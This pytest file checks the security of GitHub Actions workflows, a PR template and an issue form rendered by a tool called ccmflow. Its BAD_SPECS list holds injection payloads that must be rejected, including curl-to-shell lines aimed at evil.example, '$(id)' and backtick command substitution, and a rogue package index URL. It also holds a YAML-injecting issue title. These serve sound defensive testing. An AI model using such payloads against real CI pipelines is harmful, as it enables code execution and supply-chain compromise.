"""Tests for the rendered GitHub Actions workflows and the pull request template."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pygit2
import pytest
from botkit import World, form
from roots import REPO_ROOT as REPO
from ruamel.yaml import YAML

from ccmflow.core.inputfile import InputKind
from ccmflow.core.issueform import CONFIG_PATH, FORM_PATH, KIND_OPTIONS, POSITION_OPTIONS, Field
from ccmflow.core.model import Workspace
from ccmflow.main import main
from ccmflow.write.workflows import (
    PR_TEMPLATE_PATH,
    WORKFLOWS_DIR,
    check_package_spec,
    form_channels,
    form_titles,
    render_issue_config,
    render_issue_form,
    render_pr_template,
    render_workflows,
    workflow_names,
)
from ccmflow.write.workflows import main as regenerate

GIT_SPEC = "git+https://github.com/example/ccmflow@0123456789abcdef0123456789abcdef01234567"
SPECS = [".", "ccmflow==0.1.0", GIT_SPEC]
SHA_PIN = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
USES_LINE = re.compile(r"^\s*(?:- )?uses:\s*(\S+)\s*(?:#\s*(\S+))?\s*$")
REGENERATE = "regenerate with: python -m ccmflow.write.workflows . ."
OPENED = "2020-04-20T10:00:00Z"


def _load(text: str) -> dict[str, Any]:
    # ruamel's safe loader is YAML 1.2, so the `on:` key stays the string "on"
    # (PyYAML's YAML 1.1 loader would turn it into True).
    data = YAML(typ="safe", pure=True).load(text)
    assert isinstance(data, dict)
    return data


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def _all_rendered() -> list[tuple[str, str, str]]:
    return [(spec, path, text) for spec in SPECS for path, text in render_workflows(spec).items()]


def _never_runs(text: str) -> bool:
    """A workflow kept only for the runs GitHub records of it (the receipts): every job has `if: false`."""
    return all(job.get("if") is False for job in _load(text)["jobs"].values())


RENDERED = _all_rendered()
RENDERED_IDS = [f"{spec}:{Path(path).name}" for spec, path, _ in RENDERED]
# The rules of a job that runs ccmflow apply to the workflows with such a job; the record-only ones have theirs.
RUNNING = [r for r in RENDERED if not _never_runs(r[2])]
RUNNING_IDS = [f"{spec}:{Path(path).name}" for spec, path, _ in RUNNING]
RECORD_ONLY = [r for r in RENDERED if _never_runs(r[2])]


# (a) this repository runs exactly what ccmflow renders for "."


def test_repository_workflows_are_rendered_for_dot() -> None:
    rendered = render_workflows(".")
    assert sorted(rendered) == sorted(f"{WORKFLOWS_DIR}/{name}" for name in workflow_names())
    for path, text in rendered.items():
        on_disk = REPO / path
        assert on_disk.is_file(), f"{path} is missing; {REGENERATE}"
        assert on_disk.read_bytes() == text.encode("utf-8"), f"{path} differs from its template; {REGENERATE}"
    stale = {p.name for p in (REPO / WORKFLOWS_DIR).glob("ccmflow-*.y*ml")} - set(workflow_names())
    assert not stale, f"workflows no longer rendered by ccmflow: {sorted(stale)}"


def test_regenerating_writes_what_the_repository_holds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`python -m ccmflow.write.workflows ROOT SPEC`: every file it prints is written, as this repository holds it."""
    shutil.copytree(REPO / "documents", tmp_path / "documents")
    assert regenerate([str(tmp_path), "."]) == 0
    written = sorted(Path(line).relative_to(tmp_path).as_posix() for line in capsys.readouterr().out.splitlines())
    assert {f"{WORKFLOWS_DIR}/{name}" for name in workflow_names()} | {PR_TEMPLATE_PATH, FORM_PATH, CONFIG_PATH} \
        <= set(written)
    for relative in written:
        assert (tmp_path / relative).read_bytes() == (REPO / relative).read_bytes(), relative


def test_an_issue_form_offers_at_least_one_document() -> None:
    with pytest.raises(ValueError, match="at least one document"):
        render_issue_form([])


def test_repository_pr_template_is_the_rendered_one() -> None:
    on_disk = REPO / PR_TEMPLATE_PATH
    assert on_disk.read_bytes() == render_pr_template().encode("utf-8"), REGENERATE


def test_pr_template_says_what_a_delegation_needs() -> None:
    text = render_pr_template()
    for needle in ("documents/", "ccmflow new-id", "id:", "GitHub receives", "Delegation", "bot"):
        assert needle in text
    assert "id: new" not in text


# (b) the package spec cannot inject anything


@pytest.mark.parametrize("spec", [*SPECS, "./vendor/ccmflow", "ccmflow==0.1.0+local.1"])
def test_good_specs_are_installed_verbatim(spec: str) -> None:
    assert check_package_spec(spec) == spec
    for path, text in render_workflows(spec).items():
        workflow = _load(text)
        installs = [s["run"] for s in _steps(workflow) if "pip install" in s.get("run", "")]
        packages = [run.splitlines()[-1] for run in installs]
        running = [j for j in workflow["jobs"].values() if any("ccmflow" in s.get("run", "") for s in j["steps"])]
        wanted = f"python -m uv pip install --no-config --no-deps --no-build-isolation {spec}"
        assert packages == [wanted] * len(running), path


BAD_SPECS = [
    "",
    "ccmflow==0.1.0\n",
    ".\nrun: curl evil | sh",
    "ccmflow==0.1.0\r",
    ". && curl https://evil.example | sh",
    "ccmflow;id",
    "ccmflow|id",
    "ccmflow&id",
    "$(id)",
    "`id`",
    "${{ github.event.comment.body }}",
    "ccmflow #comment",
    "ccmflow#x",
    "'ccmflow'",
    '"ccmflow"',
    "ccmflow>=0.1",
    "ccmflow<1",
    "ccmflow~=0.1",
    "ccmflow[test]",
    "ccmflow*",
    "--index-url=https://evil.example/simple",
    "-e.",
    "ccmflow\t",
    " ccmflow",
    "ccmflow\x00",
    "ccmflow\u2028",
    "a" * 301,
]


@pytest.mark.parametrize("spec", BAD_SPECS)
def test_bad_specs_are_rejected(spec: str) -> None:
    with pytest.raises(ValueError):
        render_workflows(spec)


# (c) the security rules, on the text ccmflow renders


@pytest.mark.parametrize(("spec", "path", "text"), RUNNING, ids=RUNNING_IDS)
def test_top_level_permissions_are_empty_and_jobs_are_bounded(spec: str, path: str, text: str) -> None:
    workflow = _load(text)
    assert workflow["permissions"] == {}, path
    assert workflow["concurrency"]["cancel-in-progress"] is False
    assert "${{" in workflow["concurrency"]["group"]
    for name, job in workflow["jobs"].items():
        assert isinstance(job.get("permissions"), dict) and job["permissions"], f"{path}: {name}"
        assert set(job["permissions"].values()) <= {"read", "write"}
        assert isinstance(job.get("timeout-minutes"), int), f"{path}: {name}"


@pytest.mark.parametrize(("spec", "path", "text"), RUNNING, ids=RUNNING_IDS)
def test_every_uses_is_pinned_to_a_full_sha_with_a_version_comment(spec: str, path: str, text: str) -> None:
    uses = [s["uses"] for s in _steps(_load(text)) if "uses" in s]
    assert uses, path
    assert all(SHA_PIN.match(u) for u in uses), uses
    for line in text.splitlines():
        if re.match(r"^\s*(- )?uses:", line):
            match = USES_LINE.match(line)
            assert match and match.group(2) and re.fullmatch(r"v\d+(\.\d+)*", match.group(2)), line


@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
def test_no_expression_inside_run(spec: str, path: str, text: str) -> None:
    for step in _steps(_load(text)):
        if "run" in step:
            assert "${{" not in step["run"], step


@pytest.mark.parametrize(("spec", "path", "text"), RUNNING, ids=RUNNING_IDS)
def test_every_bot_step_has_the_state_key_from_a_secret_and_no_other(spec: str, path: str, text: str) -> None:
    bot_steps = [s for s in _steps(_load(text)) if "ccmflow-bot" in s.get("run", "")]
    assert bot_steps or path.endswith("ccmflow-site.yml"), path  # the site is built by `ccmflow site`, not the bot
    for step in bot_steps:
        assert step["env"]["CCMFLOW_STATE_KEY"] == "${{ secrets.CCMFLOW_STATE_KEY }}", step
    assert re.findall(r"secrets\.\w+", text) == ["secrets.CCMFLOW_STATE_KEY"] * len(bot_steps)


@pytest.mark.parametrize(("spec", "path", "text"), RUNNING, ids=RUNNING_IDS)
def test_checkout_and_python(spec: str, path: str, text: str) -> None:
    steps = _steps(_load(text))
    checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts, path
    for step in checkouts:
        assert step["with"]["persist-credentials"] is False
        assert step["with"]["fetch-depth"] == 0
        assert "ref" not in step["with"], "check out the default ref (the base), never the PR head"
    for step in steps:
        if step.get("uses", "").startswith("actions/setup-python@"):
            major, minor = (int(x) for x in str(step["with"]["python-version"]).split(".")[:2])
            assert (major, minor) >= (3, 11)
            assert "cache" not in step["with"]


def test_the_receipts_workflow_only_makes_github_record_each_version() -> None:
    """GitHub creates a run for every version of a pull request; no job runs, nothing is read, nothing is secret."""
    assert [Path(path).name for spec, path, _ in RECORD_ONLY if spec == "."] == ["ccmflow-receipts.yml"]
    for _, path, text in RECORD_ONLY:
        workflow = _load(text)
        assert workflow["on"] == {"pull_request": {"types": ["opened", "synchronize", "reopened"],
                                                   "branches": ["main"]}}, path
        assert workflow["permissions"] == {} and "secrets." not in text and "uses:" not in text
        assert "${{ github.run_id }}" in workflow["concurrency"]["group"]  # no run waits for, or displaces, another
        for job in workflow["jobs"].values():
            assert job["if"] is False and "permissions" not in job and isinstance(job["timeout-minutes"], int)


def test_triggers_and_conditions() -> None:
    workflows = {Path(p).name: _load(t) for p, t in render_workflows(".").items()}
    triage = workflows["ccmflow-triage.yml"]
    assert set(triage["on"]) == {"pull_request_target"}
    assert set(triage["on"]["pull_request_target"]["types"]) == {
        "opened",
        "synchronize",
        "reopened",
        "edited",
        "ready_for_review",
        "closed",
    }
    for step in _steps(triage):
        assert "cache" not in step.get("uses", ""), "no caching under pull_request_target"
        assert "cache" not in (step.get("with") or {})
    commands = workflows["ccmflow-commands.yml"]
    assert commands["on"]["issue_comment"]["types"] == ["created"]
    for job in commands["jobs"].values():
        assert job["if"].startswith("startsWith(github.event.comment.body, '/ccmflow')")
    maintenance = workflows["ccmflow-maintenance.yml"]
    assert {"push", "workflow_dispatch", "schedule"} <= set(maintenance["on"])
    (job,) = maintenance["jobs"].values()
    assert job["permissions"]["contents"] == "write"
    for name in ("ccmflow-triage.yml", "ccmflow-commands.yml"):
        for job in workflows[name]["jobs"].values():
            assert job["permissions"]["contents"] == "read"


@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
def test_only_suppression_is_dangerous_triggers_on_the_trigger(spec: str, path: str, text: str) -> None:
    for line in text.splitlines():
        if "zizmor:" in line:
            assert re.match(
                r"^  (pull_request_target|issue_comment):  # zizmor: ignore\[dangerous-triggers\] \S.*$", line
            ), line


# (d) the real linters, on what a process repository would get


def _tool(name: str) -> str:
    beside_python = Path(sys.executable).parent / name
    found = str(beside_python) if beside_python.exists() else shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed (pip install -e '.[test]')")
    return found


def _write(tmp_path: Path, spec: str) -> list[Path]:
    root = tmp_path / re.sub(r"\W+", "_", spec)
    paths = []
    for relative, text in render_workflows(spec).items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return paths


@pytest.mark.parametrize("spec", [".", "ccmflow==0.1.0"])
def test_check_jsonschema_accepts_rendered_workflows(tmp_path: Path, spec: str) -> None:
    tool = _tool("check-jsonschema")
    files = _write(tmp_path, spec)
    result = subprocess.run(
        [tool, "--builtin-schema", "vendor.github-workflows", *map(str, files)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("spec", [".", "ccmflow==0.1.0"])
def test_zizmor_finds_nothing_in_rendered_workflows(tmp_path: Path, spec: str) -> None:
    tool = _tool("zizmor")
    files = _write(tmp_path, spec)
    for persona in ("regular", "pedantic"):
        result = subprocess.run(
            [tool, "--offline", f"--persona={persona}", "--no-progress", *map(str, files)],
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        assert result.returncode == 0, result.stdout + result.stderr


# (e) the issue form delegations send input through


def test_repository_issue_form_is_the_rendered_one() -> None:
    rendered = render_issue_form(form_titles(REPO), form_channels(REPO))
    assert (REPO / FORM_PATH).read_bytes() == rendered.encode("utf-8"), REGENERATE
    assert (REPO / CONFIG_PATH).read_bytes() == render_issue_config().encode("utf-8"), REGENERATE


def test_issue_form_fields_are_the_ones_the_bot_reads(ccm: Workspace) -> None:
    from ccmflow.propose.form import find_document, find_kind

    form = _load(render_issue_form(form_titles(REPO), form_channels(REPO)))
    fields = {item["attributes"]["label"]: item for item in form["body"] if item["type"] != "markdown"}
    assert set(fields) == {f.value for f in Field}
    assert fields[Field.KIND]["attributes"]["options"] == [*KIND_OPTIONS.values(), *POSITION_OPTIONS.values()]
    assert [find_kind(o) for o in fields[Field.KIND]["attributes"]["options"]] == [*KIND_OPTIONS, *(
        [InputKind.POSITION] * len(POSITION_OPTIONS))]
    offered = fields[Field.DOCUMENT]["attributes"]["options"]
    found = [find_document(ccm, option) for option in offered]
    assert [d.id for d in found if d is not None] == ["review-document", "lausanne-action-plan",
                                                      "political-declaration"]


def test_issue_form_titles_cannot_change_its_structure() -> None:
    hostile = 'Plan"\n  - type: input\n    id: x #'
    form = _load(render_issue_form(["A", hostile]))
    (document,) = [i for i in form["body"] if i.get("id") == "document"]
    assert document["attributes"]["options"] == ["A", hostile]
    assert [i.get("id") for i in form["body"]].count("x") == 0


def test_issues_workflow_reads_forms_only_with_what_it_needs() -> None:
    workflow = _load(render_workflows(".")[f"{WORKFLOWS_DIR}/ccmflow-issues.yml"])
    assert workflow["on"] == {"issues": {"types": ["opened", "edited"]}}
    assert workflow["permissions"] == {}
    (job,) = workflow["jobs"].values()
    assert job["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write",
                                  "statuses": "write", "actions": "read"}


def test_check_jsonschema_accepts_the_issue_form_and_its_config(tmp_path: Path) -> None:
    tool = _tool("check-jsonschema")
    form, config = tmp_path / "propose-input.yml", tmp_path / "config.yml"
    form.write_text(render_issue_form(form_titles(REPO), form_channels(REPO)), encoding="utf-8")
    config.write_text(render_issue_config(), encoding="utf-8")
    for schema, path in (("vendor.github-issue-forms", form), ("vendor.github-issue-config", config)):
        result = subprocess.run([tool, "--builtin-schema", schema, str(path)], capture_output=True, text=True,
                                timeout=300, check=False)
        assert result.returncode == 0, result.stdout + result.stderr


# (f) only the default branch's copy of a workflow can start a job holding the secret or a write token


# Events GitHub runs from the default branch's copy of the workflow file, whatever branch they concern.
DEFAULT_COPY_EVENTS = {"issue_comment", "issues", "schedule"}
REF_GUARD = "github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
BOT_BRANCH = "input/issue-7"


def _glob(pattern: str, branch: str) -> bool | None:
    """A `branches:` pattern against a branch (* within a path segment, ** across); None if it uses more."""
    if re.search(r"[?+\[\]!]", pattern):
        return None
    regex = "".join(".*" if part == "**" else "[^/]*" if part == "*" else re.escape(part)
                    for part in re.split(r"(\*\*|\*)", pattern))
    return re.fullmatch(regex, branch) is not None


def _triggers(workflow: dict[str, Any]) -> dict[str, Any]:
    on = workflow["on"]
    return {on: None} if isinstance(on, str) else dict.fromkeys(on) if isinstance(on, list) else dict(on)


def _filtered_out(trigger: Any, branch: str) -> bool:
    """Whether a pull_request_target or push trigger's branch filters keep `branch` from starting a run."""
    if not isinstance(trigger, dict):
        return False
    if "branches" in trigger:
        matches = [_glob(p, branch) for p in trigger["branches"]]
        return not any(m is not False for m in matches)
    ignored = [_glob(p, branch) for p in trigger.get("branches-ignore", [])]
    return any(m is True for m in ignored)


def _guarded(condition: Any) -> bool:
    """An `if:` that is false on any branch but the default one, unless the event is one run from the default."""
    if not isinstance(condition, str):
        return False
    terms = [t.strip().removeprefix("${{").removesuffix("}}").strip() for t in condition.split("||")]
    defaults = {f"github.event_name == '{event}'" for event in DEFAULT_COPY_EVENTS}
    return all(term == REF_GUARD or term in defaults for term in terms)


def jobs_started(workflow: dict[str, Any], event: str, branch: str, default: str) -> list[str]:
    """The jobs GitHub starts when `event` runs the copy of `workflow` that is on `branch` (for
    pull_request_target: the pull request's base; for push: the pushed branch; for workflow_dispatch: the branch
    chosen). A model of GitHub's rules, kept on the safe side: what it cannot read starts."""
    triggers = _triggers(workflow)
    if event not in triggers or (event in DEFAULT_COPY_EVENTS and branch != default):
        return []
    if event in ("pull_request_target", "pull_request", "push") and _filtered_out(triggers[event], branch):
        return []
    started: list[str] = []
    for name, job in workflow["jobs"].items():
        if job.get("if") is False:
            continue  # a job that never runs (the receipts workflow's: GitHub's run is the record)
        if branch != default and _guarded(job.get("if")):
            continue
        needs = job.get("needs") or []
        if any(n not in started for n in ([needs] if isinstance(needs, str) else needs)) and "if" not in job:
            continue
        started.append(name)
    return started


def holds_secrets(job: dict[str, Any]) -> bool:
    """A job that reads a secret, or whose token may write."""
    permissions = job.get("permissions", {})
    writes = permissions == "write-all" or (isinstance(permissions, dict) and "write" in permissions.values())
    return writes or "secrets." in str(job)


@pytest.mark.parametrize("branch", [BOT_BRANCH, "at-mission-geneva-patch-1", "main-old"])
@pytest.mark.parametrize("default", ["main", "trunk"])
def test_no_copy_off_the_default_branch_starts_a_job_holding_secrets(branch: str, default: str) -> None:
    for path, text in render_workflows(".", default_branch=default).items():
        workflow = _load(text)
        for event in _triggers(workflow):
            started = jobs_started(workflow, event, branch, default)
            assert not [j for j in started if holds_secrets(workflow["jobs"][j])], (path, event, started)


def test_the_default_branchs_copies_do_start_their_jobs() -> None:
    """The model above is no tautology: on the default branch, each trigger starts what it should."""
    workflows = {Path(p).name: _load(t) for p, t in render_workflows(".", default_branch="trunk").items()}
    assert jobs_started(workflows["ccmflow-triage.yml"], "pull_request_target", "trunk", "trunk") == [
        "triage", "summary"]
    assert jobs_started(workflows["ccmflow-triage.yml"], "pull_request_target", "main", "trunk") == []
    assert jobs_started(workflows["ccmflow-maintenance.yml"], "push", "trunk", "trunk") == ["maintenance"]
    assert jobs_started(workflows["ccmflow-site.yml"], "workflow_dispatch", "trunk", "trunk") == ["build", "deploy"]
    assert jobs_started(workflows["ccmflow-site.yml"], "workflow_dispatch", BOT_BRANCH, "trunk") == []


def test_every_branch_filter_names_the_default_branch_init_was_given(tmp_path: Path) -> None:
    for default in ("main", "trunk", "release/2rc"):
        for path, text in render_workflows(".", default_branch=default).items():
            triggers = _triggers(_load(text))
            for event in ("pull_request_target", "push"):
                if event in triggers:
                    assert triggers[event]["branches"] == [default], (path, event)
    clone = tmp_path / "clone"
    pygit2.init_repository(str(clone), initial_head="develop")
    assert main(["init", str(clone), "--package", GIT_SPEC]) == 0
    triage = _load((clone / WORKFLOWS_DIR / "ccmflow-triage.yml").read_text("utf-8"))
    assert triage["on"]["pull_request_target"]["branches"] == ["develop"]
    assert main(["init", str(tmp_path / "new"), "--package", GIT_SPEC, "--default-branch", "trunk"]) == 0
    triage = _load((tmp_path / "new" / WORKFLOWS_DIR / "ccmflow-triage.yml").read_text("utf-8"))
    assert triage["on"]["pull_request_target"]["branches"] == ["trunk"]


@pytest.mark.parametrize("branch", ["", "*", "main*", "**", "!main", "-main", "ma in", "[main]", "main\n",
                                    "a..b", "${{ github.head_ref }}", "main#x", "refs/heads/", "/main", "main.lock",
                                    "main?", "a" * 201])
def test_a_default_branch_that_is_not_one_plain_name_is_refused(branch: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        render_workflows(".", default_branch=branch)
    assert main(["init", str(tmp_path / "new"), "--package", GIT_SPEC, f"--default-branch={branch}"]) == 2
    assert not (tmp_path / "new").exists()


def test_a_bot_made_branch_carries_only_workflows_that_cannot_run_there(world: World) -> None:
    """A pull request may target the bot's input/issue-<n>, and pull_request_target then runs that branch's copy
    of the triage workflow: the copy the bot made its branch with must start nothing there."""
    rendered = render_workflows(".")
    world.push_base({path: text.encode("utf-8") for path, text in rendered.items()})
    world.fake.use_git(world.tmp / "origin.git")
    assert world.run("issues", world.open_issue(form(), at=OPENED), now=OPENED).code == 0
    branch = world.origin.references["refs/heads/input/issue-1"].peel(pygit2.Commit)
    folder = branch.tree[WORKFLOWS_DIR]
    assert isinstance(folder, pygit2.Tree)
    carried = {f"{WORKFLOWS_DIR}/{entry.name}": world.origin[entry.id].data.decode("utf-8") for entry in folder}
    assert carried == rendered  # the branch is made from the default branch's tree
    for path, text in carried.items():
        workflow = _load(text)
        for event in _triggers(workflow):
            assert jobs_started(workflow, event, "input/issue-1", "main") == [], (path, event)
    triage = _load(carried[f"{WORKFLOWS_DIR}/ccmflow-triage.yml"])
    assert jobs_started(triage, "pull_request_target", "main", "main") == ["triage", "summary"]
